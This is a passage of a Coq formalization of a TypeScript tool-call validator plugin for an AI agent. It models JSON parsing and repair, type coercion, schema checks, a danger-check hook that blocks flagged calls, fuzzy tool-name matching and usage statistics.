  Nat.eqb n 9 || Nat.eqb n 10 || Nat.eqb n 13 || Nat.eqb n 32.

Fixpoint skip_ws (s : string) : string :=
  match s with
  | String c s' => if is_ws c then skip_ws s' else s
  | EmptyString => s
  end.

(** The character a one-letter escape stands for. *)
Definition escape (c : ascii) : option ascii :=
  if Ascii.eqb c dquote then Some dquote
  else if Ascii.eqb c "\" then Some "\"%char
  else if Ascii.eqb c "/" then Some "/"%char
  else if Ascii.eqb c "b" then Some "008"%char
  else if Ascii.eqb c "f" then Some "012"%char
  else if Ascii.eqb c "n" then Some "010"%char
  else if Ascii.eqb c "r" then Some "013"%char
  else if Ascii.eqb c "t" then Some "009"%char
  else None.

(** The code unit of a [\uXXXX] escape. *)
Definition hex4 (h1 h2 h3 h4 : ascii) : option Z :=
  match JsNumber.digit_value 16 h1, JsNumber.digit_value 16 h2,
        JsNumber.digit_value 16 h3, JsNumber.digit_value 16 h4 with
  | Some a, Some b, Some c, Some d => Some (((a * 16 + b) * 16 + c) * 16 + d)%Z
  | _, _, _, _ => None
  end.

Definition cons_char (c : ascii) (r : option (string * string))
  : option (string * string) :=
  match r with
  | Some (body, rest) => Some (String c body, rest)
  | None => None
  end.

(** A string literal after its opening quote: its value and what follows
    the closing quote.  Control characters must be escaped.  A [\uXXXX]
    escape above U+00FF denotes a code unit that the strings of the model
    do not have: such a text is outside the model and is refused. *)
Fixpoint string_body (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String c s' =>
      if Ascii.eqb c dquote then Some (EmptyString, s')
      else if Ascii.eqb c "\" then
        match s' with
        | String "u" (String h1 (String h2 (String h3 (String h4 s'')))) =>
            match hex4 h1 h2 h3 h4 with
            | Some u =>
                if (u <? 256)%Z
                then cons_char (ascii_of_nat (Z.to_nat u)) (string_body s'')
                else None
            | None => None
            end
        | String e s'' =>
            match escape e with
            | Some c' => cons_char c' (string_body s'')
            | None => None
            end
        | EmptyString => None
        end
      else if Nat.ltb (JsString.code c) 32 then None
      else cons_char c (string_body s')
  end.

(** A number: [-? (0 | [1-9] digits) (. digits)? ([eE] [+-]? digits)?]. *)
Definition number (s : string) : option (float * string) :=
  let '(neg, s0) :=
    match s with
    | String "-" s' => (true, s')
    | _ => (false, s)
    end in
  let '(int, n1, s1) := JsNumber.read_digits 10 s0 0%Z O in
  let leading_zero :=
    match s0 with
    | String "0" _ => Nat.ltb 1 n1
    | _ => false
    end in
  if Nat.eqb n1 0 || leading_zero then None
  else
    let fraction :=
      match s1 with
      | String "." s1' =>
          let '(m, n2, s2) := JsNumber.read_digits 10 s1' int O in
          match n2 with
          | O => None
          | S _ => Some (m, n2, s2)
          end
      | _ => Some (int, O, s1)
      end in
    match fraction with
    | None => None
    | Some (m, n2, s2) =>
        match JsNumber.read_exponent s2 with
        | Some (e, rest) =>
            Some (JsNumber.of_decimal neg m (e - Z.of_nat n2), rest)
        | None => None
        end
    end.

(** [s] without the prefix [p], when it starts with it. *)
Fixpoint strip_prefix (p s : string) : option string :=
  match p, s with
  | EmptyString, _ => Some s
  | String a p', String b s' => if Ascii.eqb a b then strip_prefix p' s' else None
  | String _ _, EmptyString => None
  end.

(** A value, the elements of an array after its opening bracket and the
    members of an object after its opening brace; each gives what it read
    and what follows.  A repeated key keeps its first place and takes the
    last value. *)
Fixpoint value (fuel : nat) (s : string) : option (JSValue * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match skip_ws s with
      | String "{" s' =>
          match skip_ws s' with
          | String "}" rest => Some (JObject [], rest)
          | _ =>
              match members fuel' s' [] with
              | Some (props, rest) => Some (JObject props, rest)
              | None => None
              end
          end
      | String "[" s' =>
          match skip_ws s' with
          | String "]" rest => Some (JArray [], rest)
          | _ =>
              match elements fuel' s' [] with
              | Some (items, rest) => Some (JArray items, rest)
              | None => None
              end
          end
      | String c s' as t =>
          if Ascii.eqb c dquote then
            match string_body s' with
            | Some (str, rest) => Some (JString str, rest)
            | None => None
            end
          else
            match strip_prefix "true" t, strip_prefix "false" t,
                  strip_prefix "null" t with
            | Some rest, _, _ => Some (JBoolean true, rest)
            | _, Some rest, _ => Some (JBoolean false, rest)
            | _, _, Some rest => Some (JNull, rest)
            | None, None, None =>
                match number t with
                | Some (n, rest) => Some (JNumber n, rest)
                | None => None
                end
            end
      | EmptyString => None
      end
  end

with elements (fuel : nat) (s : string) (acc : list JSValue)
  : option (list JSValue * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match value fuel' s with
      | Some (v, rest) =>
          match skip_ws rest with
          | String "," rest' => elements fuel' rest' (acc ++ [v])
          | String "]" rest' => Some (acc ++ [v], rest')
          | _ => None
          end
      | None => None
      end
  end

with members (fuel : nat) (s : string) (acc : JSObject)
  : option (JSObject * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match skip_ws s with
      | String c s' =>
          if Ascii.eqb c dquote then
            match string_body s' with
            | Some (key, rest) =>
                match skip_ws rest with
                | String ":" rest' =>
                    match value fuel' rest' with
                    | Some (v, rest'') =>
                        match skip_ws rest'' with
                        | String "," r => members fuel' r (Obj.set acc key v)
                        | String "}" r => Some (Obj.set acc key v, r)
                        | _ => None
                        end
                    | None => None
                    end
                | _ => None
                end
            | None => None
            end
          else None
      | EmptyString => None
      end
  end.

(** [JSON.parse(text)]: [None] where the runtime throws a
    [SyntaxError]. *)
Definition parse (text : string) : option JSValue :=
  match value (2 * String.length text + 2) text with
  | Some (v, rest) =>
      match skip_ws rest with
      | EmptyString => Some v
      | String _ _ => None
      end
  | None => None
  end.

End JSON.

(* ------------------------------------------------------------------------- *)
(** ** tryParseJson *)
(* ------------------------------------------------------------------------- *)

Module Fixups.
Import RegExp.

(** The regular expression that finds an unquoted key: an opening brace
    or a comma in group 1, white space, an identifier in group 2, white
    space and a colon; its source text is the first field below. *)
Definition unquoted_key : RegExp.t :=
  mk "(\{|\,)\s*([a-zA-Z_][a-zA-Z0-9_]*)\s*:" false true
     (Seq (Group 1 (Alt (Char "{") (Char ",")))
        (Seq (Star (Class white_space))
           (Seq (Group 2 (Seq (Class ident_start) (Star (Class ident_part))))
              (Seq (Star (Class white_space)) (Char ":"))))).

(** The replacement: [$1], a double quote, [$2], a double quote and a
    colon. *)
Definition quote_key : list Piece :=
  [Ref 1; Text (String dquote ""); Ref 2; Text (String dquote ":")].

(** [/'/g] *)
Definition single_quote : RegExp.t := mk "'" false true (Char "'").

(** The replacement: a double quote. *)
Definition double_quote : list Piece := [Text (String dquote "")].

(** [[\}\]]] *)
Definition closing (c : ascii) : bool := Ascii.eqb c "}" || Ascii.eqb c "]".

(** [/,\s*([\}\]])/g] *)
Definition trailing_comma : RegExp.t :=
  mk ",\s*([\}\]])" false true
     (Seq (Char ",") (Seq (Star (Class white_space)) (Group 1 (Class closing)))).

(** The replacement ["$1"] *)
Definition keep_closing : list Piece := [Ref 1].

(** The three fixes, in the order the source applies them. *)
Definition apply (value : string) : string :=
  let fixed := value in
  (* Fix unquoted keys *)
  let fixed := RegExp.replace fixed unquoted_key quote_key in
  (* Fix single quotes *)
  let fixed := RegExp.replace fixed single_quote double_quote in
  (* Fix trailing commas: {a: 1,} -> {a: 1} *)
  let fixed := RegExp.replace fixed trailing_comma keep_closing in
  fixed.

End Fixups.

Record ParseResult : Type := mkParseResult {
  parsed : JSValue;
  success : bool
}.

(** Attempt to parse potentially malformed JSON.  The two [try] blocks are
    the two matches on [JSON.parse]; the source's second test, for an
    object, is never met by a string and has no branch here. *)
Definition tryParseJson (value : JSValue) : ParseResult :=
  match value with
  | JString text =>
      match JSON.parse text with
      | Some v => mkParseResult v true
      | None =>
          (* Try common fixes *)
          match JSON.parse (Fixups.apply text) with
          | Some v => mkParseResult v true
          | None => mkParseResult value false
          end
      end
  | _ => mkParseResult value true
  end.

(* ------------------------------------------------------------------------- *)
(** ** coerceValue *)
(* ------------------------------------------------------------------------- *)

Module Value.

(** [String(value)].  An array prints its elements joined by commas,
    [null] and [undefined] elements as nothing; an object prints as
    [[object Object]], a built-in function as a function of its name with
    [[native code]] for a body. *)
Fixpoint toString (value : JSValue) : string :=
  match value with
  | JUndefined => "undefined"
  | JNull => "null"
  | JBoolean b => if b then "true" else "false"
  | JNumber n => JsNumber.toString n
  | JString s => s
  | JArray items =>
      JsString.join ","
        (List.map (fun item =>
                     match item with
                     | JUndefined | JNull => ""
                     | _ => toString item
                     end) items)
  | JObject _ => "[object Object]"
  | JFunction name => "function " ++ name ++ "() { [native code] }"
  end.

(** [typeof value === "string"] *)
Definition is_string (value : JSValue) : bool :=
  match value with
  | JString _ => true
  | _ => false
  end.

(** [Array.isArray(value)] *)
Definition isArray (value : JSValue) : bool :=
  match value with
  | JArray _ => true
  | _ => false
  end.

(** [typeof value === "object" && value !== null] *)
Definition is_object (value : JSValue) : bool :=
  match value with
  | JArray _ | JObject _ => true
  | _ => false
  end.

End Value.

Record Coercion : Type := mkCoercion {
  coerced_value : JSValue;        (* value *)
  coerced : bool
}.

(** [case "number": case "integer":] *)
Definition coerce_number (value : JSValue) : Coercion :=
  match value with
  | JString s =>
      let num := JsNumber.of_string s in
      if negb (JsNumber.isNaN num) then mkCoercion (JNumber num) true
      else mkCoercion value false
  | _ => mkCoercion value false
  end.

(** [case "boolean":] *)
Definition coerce_boolean (value : JSValue) : Coercion :=
  match value with
  | JString s =>
      let lower := JsString.toLowerCase s in
      if String.eqb lower "true" || String.eqb lower "1" || String.eqb lower "yes"
      then mkCoercion (JBoolean true) true
      else if String.eqb lower "false" || String.eqb lower "0" || String.eqb lower "no"
      then mkCoercion (JBoolean false) true
      else mkCoercion value false
  | JNumber n => mkCoercion (JBoolean (JsNumber.nonzero n)) true
  | _ => mkCoercion value false
  end.

(** [case "array":] *)
Definition coerce_array (value : JSValue) : Coercion :=
  match value with
  | JString s =>
      (* Try to parse as JSON array *)
      let r := tryParseJson value in
      if success r && Value.isArray (parsed r) then mkCoercion (parsed r) true
      (* Try splitting by comma *)
      else if JsString.includes s ","
      then mkCoercion
             (JArray (List.map (fun piece => JString (JsString.trim piece))
                               (JsString.split s ","))) true
      (* Wrap single value in array *)
      else mkCoercion (JArray [value]) true
  | _ => mkCoercion value false
  end.

(** [case "object":] *)
Definition coerce_object (value : JSValue) : Coercion :=
  match value with
  | JString _ =>
      let r := tryParseJson value in
      if success r && Value.is_object (parsed r) then mkCoercion (parsed r) true
      else mkCoercion value false
  | _ => mkCoercion value false
  end.

(** Coerce a value to match expected type *)
Definition coerceValue (value : JSValue) (expectedType : string) : Coercion :=
  match value with
  | JUndefined | JNull => mkCoercion value false
  | _ =>
      if String.eqb expectedType "string" then
        if negb (Value.is_string value)
        then mkCoercion (JString (Value.toString value)) true
        else mkCoercion value false
      else if String.eqb expectedType "number" || String.eqb expectedType "integer"
      then coerce_number value
      else if String.eqb expectedType "boolean" then coerce_boolean value
      else if String.eqb expectedType "array" then coerce_array value
      else if String.eqb expectedType "object" then coerce_object value
      else mkCoercion value false
  end.

(* ------------------------------------------------------------------------- *)
(** ** Configuration, schemas and verdicts *)
(* ------------------------------------------------------------------------- *)

Inductive RepairStrategy : Type := Coerce | Default | Prompt | Block.

(** [PluginConfig]; every field is optional.  [customValidators] is read
    nowhere in the source and is left out. *)
Record PluginConfig : Type := mkPluginConfig {
  enabled : option bool;
  repairStrategy : option RepairStrategy;
  blockOnValidationFailure : option bool;
  blockDangerousCalls : option bool;
  allowToolNameFuzzyMatch : option bool;
  maxFuzzyMatchDistance : option float;
  logValidationErrors : option bool;
  strictMode : option bool
}.

(** The configuration [{}]. *)
Definition default_config : PluginConfig :=
  mkPluginConfig None None None None None None None None.

(** [flag !== false] *)
Definition not_false (flag : option bool) : bool :=
  match flag with
  | Some false => false
  | _ => true
  end.

(** [if (flag)] *)
Definition truthy (flag : option bool) : bool :=
  match flag with
  | Some true => true
  | _ => false
  end.

(** What the repair loop reads of a property's schema: [{ type?: string }]. *)
Record PropertySchema : Type := mkPropertySchema {
  prop_type : option string
}.

(** [Record<string, { type?: string }>], in [Object.entries] order. *)
Definition Properties : Type := list (string * PropertySchema).

(** One error of [Value.Errors], as far as it is read. *)
Record ValueError : Type := mkValueError {
  err_path : string;
  err_message : string
}.

(** The schema library (TypeBox), which is not part of the repository:
    the type of its schemas, the [properties] a schema carries if any, the
    check of a value against a schema and the errors of a value that fails
    it. *)
Class TypeBox : Type := mkTypeBox {
  TSchema : Type;
  schema_properties : TSchema -> option Properties;
  Value_Check : TSchema -> JSObject -> bool;
  Value_Errors : TSchema -> JSObject -> list ValueError
}.

Record ToolSchema `{TypeBox} : Type := mkToolSchema {
  schema_name : string;
  schema_parameters : option TSchema;
  schema_required : option (list string)
}.

Record ValidationResult : Type := mkValidationResult {
  valid : bool;
  errors : list string;
  repaired : option JSObject;       (* absent or undefined: [None] *)
  blocked : bool;
  blockReason : option string
}.

(* ------------------------------------------------------------------------- *)
(** ** validateToolCall *)
(* ------------------------------------------------------------------------- *)

(** [errors.join(", ")] behind its prefix. *)
Definition validation_failed (errors : list string) : string :=
  "Validation failed: " ++ JsString.join ", " errors.

(** The body of the loop over [Object.entries(properties)]: the working
    copy and [anyCoerced], before and after. *)
Definition coerce_property (state : JSObject * bool)
    (entry : string * PropertySchema) : JSObject * bool :=
  let '(repaired, anyCoerced) := state in
  let '(key, prop) := entry in
  match prop_type prop with
  | Some type =>
      if negb (String.eqb type "")                      (* prop.type && *)
      then
        match Obj.lookup repaired key with
        | JUndefined => state                      (* repaired[key] !== undefined *)
        | value =>
            let r := coerceValue value type in
            if coerced r then (Obj.assign repaired key (coerced_value r), true)
            else state
        end
      else state
  | None => state
  end.

Definition coerce_properties (properties : Properties) (params : JSObject)
  : JSObject * bool :=
  fold_left coerce_property properties (params, false).

Section Validator.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** The entries of [errors] for a value that fails the schema. *)
Definition schema_errors (parameters : TSchema) (params : JSObject)
  : list string :=
  List.map (fun err => (err_path err ++ ": " ++ err_message err)%string)
           (Value_Errors parameters params).

(** Attempt repair based on strategy: what [errors] and [repaired] are
    after it. *)
Definition attempt_repair (parameters : TSchema) (params : JSObject)
    (errors : list string) : list string * option JSObject :=
  match repairStrategy cfg with
  | Some Coerce | None =>
      (* Get expected types from schema *)
      let properties :=
        match schema_properties parameters with
        | Some properties => properties
        | None => []
        end in
      let '(repaired, anyCoerced) := coerce_properties properties params in
      (* Check if repair was successful *)
      if anyCoerced && Value_Check parameters repaired
      then ([], Some repaired)          (* Clear errors since we repaired *)
      else (errors, None)               (* Repair failed *)
  | Some _ => (errors, None)
  end.

(** Validate against schema if available: [errors] and [repaired]. *)
Definition validate_schema (params : JSObject) (schema : option ToolSchema)
  : list string * option JSObject :=
  match schema with
  | Some tool_schema =>
      match schema_parameters tool_schema with
      | Some parameters =>
          if Value_Check parameters params then ([], None)
          else attempt_repair parameters params (schema_errors parameters params)
      | None => ([], None)
      end
  | None => ([], None)
  end.

(** [danger.reason || "Dangerous call detected"] *)
Definition danger_error (danger : DangerCheck) : string :=
  match reason danger with
  | Some r => if String.eqb r "" then "Dangerous call detected" else r
  | None => "Dangerous call detected"
  end.

Definition validateToolCall (toolName : string) (params : JSObject)
    (schema : option ToolSchema) : ValidationResult :=
  (* Check for dangerous calls *)
  if not_false (blockDangerousCalls cfg)
     && dangerous (checkDangerousCall toolName params)
  then
    let danger := checkDangerousCall toolName params in
    mkValidationResult false [danger_error danger] None true (reason danger)
  else
    let '(errors, repaired) := validate_schema params schema in
    (* Block if configured and validation failed *)
    if Nat.ltb 0 (List.length errors) && truthy (blockOnValidationFailure cfg)
    then mkValidationResult (Nat.eqb (List.length errors) 0) errors repaired
           true (Some (validation_failed errors))
    else mkValidationResult (Nat.eqb (List.length errors) 0) errors repaired
           false None.

End Validator.

(* ------------------------------------------------------------------------- *)
(** ** The hooks *)
(* ------------------------------------------------------------------------- *)

(** The statistics.  The counters are numbers that only ever grow by one;
    they are exact until 2^53 and are modelled as [nat]. *)
Module Stats.

Record t : Type := mk {
  validated : nat;
  repaired : nat;
  blocked : nat;
  errors : nat
}.

Definition zero : t := mk 0 0 0 0.

(** [stats.validated++] and its like *)
Definition incr_validated (s : t) : t :=
  mk (validated s + 1) (repaired s) (blocked s) (errors s).
Definition incr_repaired (s : t) : t :=
  mk (validated s) (repaired s + 1) (blocked s) (errors s).
Definition incr_blocked (s : t) : t :=
  mk (validated s) (repaired s) (blocked s + 1) (errors s).
Definition incr_errors (s : t) : t :=
  mk (validated s) (repaired s) (blocked s) (errors s + 1).

End Stats.

(** What [api.logger] receives. *)
Inductive LogEntry : Type :=
| Info (message : string)
| Warn (message : string).

(** What the [before_tool_call] handler returns. *)
Inductive HookResult : Type :=
| Undefined                                   (* undefined *)
| BlockCall (blockReason : option string)     (* { block: true, blockReason } *)
| WithParams (params : JSObject).             (* { params } *)

Record ToolCallEvent : Type := mkToolCallEvent {
  toolName : string;
  params : JSObject
}.

(** The state [register] closes over: the set of tool names seen, in
    insertion order, and the statistics. *)
Record PluginState : Type := mkPluginState {
  availableTools : list string;
  stats : Stats.t
}.

Definition initial_state : PluginState := mkPluginState [] Stats.zero.

(** A template literal prints [undefined] for an absent string. *)
Definition show_optional (s : option string) : string :=
  match s with
  | Some s => s
  | None => "undefined"
  end.

(** A distance as the number it is. *)
Definition distance_number (d : Distance) : float :=
  match d with
  | Finite n => PrimFloat.of_uint63 (Uint63.of_Z (Z.of_nat n))
  | Infinity => PrimFloat.infinity
  end.

Definition show_distance (d : Distance) : string :=
  match d with
  | Finite n => JsString.of_nat n
  | Infinity => "Infinity"
  end.

Section Hooks.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** [if (cfg.logValidationErrors !== false) api.logger...] *)
Definition log (entry : LogEntry) : list LogEntry :=
  if not_false (logValidationErrors cfg) then [entry] else [].

(** Fuzzy match tool name if enabled: the suggestion is logged and
    nothing else is done with it. *)
Definition fuzzy_match_log (tools : list string) (toolName : string)
  : list LogEntry :=
  if not_false (allowToolNameFuzzyMatch cfg) && Nat.ltb 0 (List.length tools)
  then
    let r := findClosestToolName toolName tools in
    match cm_match r with
    | Some m =>
        if truthy_string m && negb (String.eqb m toolName)
           && PrimFloat.leb (distance_number (cm_distance r))
                (match maxFuzzyMatchDistance cfg with
                 | Some limit => limit
                 | None => 2%float
                 end)
        then
          log (Info ("tool-validator: fuzzy matched " ++ String dquote toolName
                     ++ String dquote " -> " ++ String dquote m
                     ++ String dquote " (distance: "
                     ++ show_distance (cm_distance r) ++ ")"))
        else []
    | None => []
    end
  else [].

(** The handler from the verdict on: the statistics, what is logged and
    what is returned. *)
Definition handle_result (st : Stats.t) (toolName : string)
    (result : ValidationResult) : Stats.t * list LogEntry * HookResult :=
  if blocked result then
    (Stats.incr_blocked st,
     log (Warn ("tool-validator: blocked " ++ toolName ++ ": "
                ++ show_optional (blockReason result))),
     BlockCall (blockReason result))
  else if negb (valid result) then
    let st := Stats.incr_errors st in
    let logs :=
      log (Warn ("tool-validator: validation errors for " ++ toolName ++ ": "
                 ++ JsString.join ", " (errors result))) in
    match repaired result with
    | Some repaired_params =>
        (Stats.incr_repaired st,
         logs ++ log (Info ("tool-validator: repaired " ++ toolName ++ " params")),
         WithParams repaired_params)
    | None =>
        (* In strict mode, block on any validation error *)
        if truthy (strictMode cfg)
        then (st, logs, BlockCall (Some (validation_failed (errors result))))
        else (st, logs, Undefined)
    end
  else (st, [], Undefined).

(** The [before_tool_call] handler. *)
Definition before_tool_call (state : PluginState) (event : ToolCallEvent)
  : PluginState * list LogEntry * HookResult :=
  let st := Stats.incr_validated (stats state) in
  let fuzzy := fuzzy_match_log (availableTools state) (toolName event) in
  (* Validate the call *)
  let result := validateToolCall cfg (toolName event) (params event) None in
  let '(st, logs, decision) := handle_result st (toolName event) result in
  (mkPluginState (availableTools state) st, fuzzy ++ logs, decision).

(** The [after_tool_call] handler: [availableTools.add(event.toolName)]. *)
Definition after_tool_call (state : PluginState) (event : ToolCallEvent)
  : PluginState :=
  if existsb (String.eqb (toolName event)) (availableTools state) then state
  else mkPluginState (availableTools state ++ [toolName event]) (stats state).

End Hooks.

(* ------------------------------------------------------------------------- *)
(** ** A schema library to run the validator on *)
(* ------------------------------------------------------------------------- *)

Module SimpleSchema.

(** Modelled from the spec: TypeBox's [Value.Check] and [Value.Errors],
    which are not part of the repository, on object schemas, as section
    4.2 describes structural validation: the required fields are present
    and each present field matches its declared primitive type; there is
    one error per violation, naming the field path and the reason. *)
Record t : Type := mk {
  properties : Properties;
  required : list string
}.

(** A number without a fractional part. *)
Definition is_integer (x : float) : bool :=
  match Prim2SF x with
  | SpecFloat.S754_zero _ => true
  | SpecFloat.S754_finite _ m e =>
      (Z.leb 0 e || Z.eqb (Z.pos m mod 2 ^ (- e)) 0)%Z
  | _ => false
  end.

Definition matches_type (value : JSValue) (type : string) : bool :=
  if String.eqb type "string" then Value.is_string value
  else if String.eqb type "number" then
    match value with JNumber n => negb (JsNumber.isNaN n) | _ => false end
  else if String.eqb type "integer" then
    match value with JNumber n => is_integer n | _ => false end
  else if String.eqb type "boolean" then
    match value with JBoolean _ => true | _ => false end
  else if String.eqb type "array" then Value.isArray value
  else if String.eqb type "object" then
    match value with JObject _ => true | _ => false end
  else true.

Definition missing (params : JSObject) (key : string) : bool :=
  match Obj.get params key with
  | JUndefined => true
  | _ => false
  end.

Definition required_errors (schema : t) (params : JSObject) : list ValueError :=
  List.map (fun key => mkValueError ("/" ++ key) "Expected required property")
           (List.filter (missing params) (required schema)).

Definition type_errors (schema : t) (params : JSObject) : list ValueError :=
  List.flat_map
    (fun entry : string * PropertySchema =>
       let '(key, prop) := entry in
       match prop_type prop with
       | Some type =>
           if missing params key || matches_type (Obj.get params key) type
           then []
           else [mkValueError ("/" ++ key) ("Expected " ++ type)]
       | None => []
       end)
    (properties schema).

Definition Errors (schema : t) (params : JSObject) : list ValueError :=
  required_errors schema params ++ type_errors schema params.

Definition Check (schema : t) (params : JSObject) : bool :=
  match Errors schema params with
  | [] => true
  | _ :: _ => false
  end.

Definition typebox : TypeBox :=
  mkTypeBox t (fun schema => Some (properties schema)) Check Errors.

End SimpleSchema.

(* ------------------------------------------------------------------------- *)
(** ** The tool_validator_test tool *)
(* ------------------------------------------------------------------------- *)

(** What [execute] of the tool comes to: the answer for a text that is no
    JSON, the answer with the verdict, or a [TypeError] thrown on the
    way. *)
Inductive TestOutcome : Type :=
| InvalidJson                                         (* details: { error: "invalid_json" } *)
| Verdict (text : string) (details : ValidationResult)
| ThrowsTypeError.

(** [parsed as Record<string, unknown>]: the cast checks nothing.  Reading
    a property of [null] throws; an array, a string, a number, a boolean
    and a function have none of the properties that are read here, the four
    argument names of the danger rules, and are as good as an empty
    record. *)
Definition as_record (parsed : JSValue) : option JSObject :=
  match parsed with
  | JObject props => Some props
  | JNull | JUndefined => None
  | JArray _ | JString _ | JNumber _ | JBoolean _ | JFunction _ => Some []
  end.

Definition show_bool (b : bool) : string := if b then "true" else "false".

Definition yes_no (b : bool) : string := if b then "yes" else "no".

(** The text of the answer. *)
Definition verdict_text (toolName : string) (result : ValidationResult) : string :=
  let newline := String "010" "" in
  "Validation result for " ++ toolName ++ ":" ++ newline
  ++ "  Valid: " ++ show_bool (valid result) ++ newline
  ++ "  Errors: "
  ++ (if String.eqb (JsString.join ", " (errors result)) "" then "none"
      else JsString.join ", " (errors result)) ++ newline
  ++ "  Repaired: "
  ++ yes_no (match repaired result with Some _ => true | None => false end) ++ newline
  ++ "  Blocked: " ++ yes_no (blocked result).

Section TestTool.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** [execute(_toolCallId, { toolName, params })] *)
Definition tool_validator_test (toolName paramsStr : string) : TestOutcome :=
  let r := tryParseJson (JString paramsStr) in
  if negb (success r) then InvalidJson
  else
    match as_record (parsed r) with
    | Some params =>
        let result := validateToolCall cfg toolName params None in
        Verdict (verdict_text toolName result) result
    | None =>
        (* validateToolCall reads a property of the value only in the
           danger check *)
        if not_false (blockDangerousCalls cfg) then ThrowsTypeError
        else
          let result := mkValidationResult true [] None false None in
          Verdict (verdict_text toolName result) result
    end.

End TestTool.

(* ========================================================================= *)
(** * Vocabulary of the properties *)
(* ========================================================================= *)

(** *** The matrix of levenshteinDistance while it is filled *)

(** Row [i], completely filled. *)
Definition full_row (a b : string) (i : nat) : list nat :=
  map (lev_rec a b i) (seq 0 (String.length a + 1)).

(** Rows below [k] are filled. *)
Definition done_upto (a b : string) (m : Matrix) (k : nat) : Prop :=
  forall i, i < k -> nth i m [] = full_row a b i.

(** Rows from [k] on are as the first loop left them. *)
Definition fresh_from (b : string) (m : Matrix) (k : nat) : Prop :=
  forall i, k <= i -> i <= String.length b -> nth i m [] = [i].

(** *** findClosestToolName *)

(** No candidate equals the input once both are lower-cased. *)
Definition no_ci_match (inputLower : string) (tools : list string) : bool :=
  forallb (fun t => negb (String.eqb inputLower (JsString.toLowerCase t))) tools.

(** *** Texts *)

(** [q s] is [s] between double quotes. *)
Definition q (s : string) : string := String dquote s ++ String dquote "".

(** The second fix turns every single quote into a double quote and leaves
    the other characters alone. *)
Definition swap_quote (c : ascii) : ascii :=
  if Ascii.eqb c "'" then dquote else c.

(** *** coerceValue *)

(** The strings [coerceValue] reads as [true] and as [false]. *)
Definition true_words : list string := ["true"; "1"; "yes"].
Definition false_words : list string := ["false"; "0"; "no"].

(** *** The danger check *)

(** A rule fires on a call: its tool filter lets the tool through, the
    argument it names is a string, and one of its patterns matches it. *)
Definition rule_fires (rule : DangerRule) (toolName : string)
    (params : JSObject) : Prop :=
  (rule_tool rule = "*" \/ rule_tool rule = toolName) /\
  exists value regex,
    Obj.get params (rule_param rule) = JString value /\
    In regex (rule_patterns rule) /\
    RegExp.test regex value = true.

(** [regex] is the first of the patterns that matches [value]. *)
Definition first_to_match (patterns : list RegExp.t) (value : string)
    (regex : RegExp.t) : Prop :=
  exists before after,
    patterns = before ++ regex :: after /\
    (forall p, In p before -> RegExp.test p value = false) /\
    RegExp.test regex value = true.

(** [rule] is the first rule of the table that fires on the call. *)
Definition first_to_fire (rules : list DangerRule) (toolName : string)
    (params : JSObject) (rule : DangerRule) : Prop :=
  exists before after,
    rules = before ++ rule :: after /\
    (forall r, In r before -> ~ rule_fires r toolName params) /\
    rule_fires rule toolName params.

(** *** The repair *)

(** [cfg.repairStrategy === "coerce" || cfg.repairStrategy === undefined] *)
Definition coercion_enabled (cfg : PluginConfig) : bool :=
  match repairStrategy cfg with
  | Some Coerce | None => true
  | Some _ => false
  end.

(** The properties the repair loop goes through: [properties || {}]. *)
Definition properties_of `{TypeBox} (parameters : TSchema) : Properties :=
  match schema_properties parameters with
  | Some properties => properties
  | None => []
  end.

(** *** The handler *)

(** A configuration with other answers to the three settings that only
    bear on schema validation. *)
Definition with_schema_settings (cfg : PluginConfig)
    (strategy : option RepairStrategy) (blockOnFailure strict : option bool)
  : PluginConfig :=
  mkPluginConfig (enabled cfg) strategy blockOnFailure (blockDangerousCalls cfg)
    (allowToolNameFuzzyMatch cfg) (maxFuzzyMatchDistance cfg)
    (logValidationErrors cfg) strict.

(** The decision of the handler. *)
Definition decision_of (r : PluginState * list LogEntry * HookResult) : HookResult :=
  snd r.

(** The statistics the handler leaves. *)
Definition stats_of (r : PluginState * list LogEntry * HookResult) : Stats.t :=
  stats (fst (fst r)).

(** *** Sample tools and configurations *)

Module Samples.

(** A tool whose schema asks for a number [count]. *)
Definition count_schema : @ToolSchema SimpleSchema.typebox :=
  @mkToolSchema SimpleSchema.typebox "search"
    (Some (SimpleSchema.mk [("count", mkPropertySchema (Some "number"))] ["count"]))
    None.

(** A tool whose schema asks for a string [name]. *)
Definition name_schema : @ToolSchema SimpleSchema.typebox :=
  @mkToolSchema SimpleSchema.typebox "greet"
    (Some (SimpleSchema.mk [("name", mkPropertySchema (Some "string"))] ["name"]))
    None.

(** A tool whose schema asks for a number [x] and declares a string by
    the name of a function that every object inherits. *)
Definition to_string_schema : @ToolSchema SimpleSchema.typebox :=
  @mkToolSchema SimpleSchema.typebox "show"
    (Some (SimpleSchema.mk [("x", mkPropertySchema (Some "number"));
                            ("toString", mkPropertySchema (Some "string"))] ["x"]))
    None.

Definition strict_config : PluginConfig :=
  mkPluginConfig None None None None None None None (Some true).

Definition blocking_config : PluginConfig :=
  mkPluginConfig None None (Some true) None None None None None.

End Samples.


(** *** Further vocabulary *)

(** [s] contains [sub]. *)
Definition contains (s sub : string) : Prop :=
  exists before after, s = (before ++ sub ++ after)%string.

(** No argument that a rule could look at is a string: [command] counts
    only for the tool [bash]. *)
Definition no_inspected_string (toolName : string) (params : JSObject) : Prop :=
  forall key value,
    In key ["path"; "file"; "query"] \/ (key = "command" /\ toolName = "bash") ->
    Obj.get params key <> JString value.

(** A value of the type a coercion aims at: a string; a number that is not
    [NaN], for [number] and for [integer]; a boolean; an array; an object or
    an array, for [object]. *)
Definition has_type (value : JSValue) (expectedType : string) : bool :=
  if String.eqb expectedType "string" then Value.is_string value
  else if String.eqb expectedType "number" || String.eqb expectedType "integer" then
    match value with
    | JNumber n => negb (JsNumber.isNaN n)
    | _ => false
    end
  else if String.eqb expectedType "boolean" then
    match value with
    | JBoolean _ => true
    | _ => false
    end
  else if String.eqb expectedType "array" then Value.isArray value
  else if String.eqb expectedType "object" then Value.is_object value
  else false.

(** The names of the properties of an object, in order. *)
Definition keys (obj : JSObject) : list string := List.map fst obj.

(** The arguments pass the schema of the tool, or there is none to pass. *)
Definition passes_schema `{TypeBox} (params : JSObject)
    (schema : option ToolSchema) : bool :=
  match schema with
  | Some tool_schema =>
      match schema_parameters tool_schema with
      | Some parameters => Value_Check parameters params
      | None => true
      end
  | None => true
  end.

(** The properties a schema declares, if it is there. *)
